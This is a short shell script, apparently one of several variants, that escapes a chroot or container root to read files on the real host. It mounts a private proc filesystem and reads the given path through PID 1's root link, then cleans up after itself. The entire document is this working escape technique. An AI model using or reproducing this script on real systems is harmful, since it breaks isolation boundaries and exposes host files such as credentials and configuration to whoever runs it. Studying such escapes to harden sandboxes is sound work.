#!/bin/sh
# Different: a proc of its own. PID 1 has the real root, and its link leads there.
[ $# -eq 1 ] || { echo "usage: escape FILE" >&2; exit 2; }
mkdir /proc-of-mine && mount -t proc proc /proc-of-mine || exit 1
cat "/proc-of-mine/1/root$1"
status=$?
umount /proc-of-mine
rmdir /proc-of-mine
exit $status
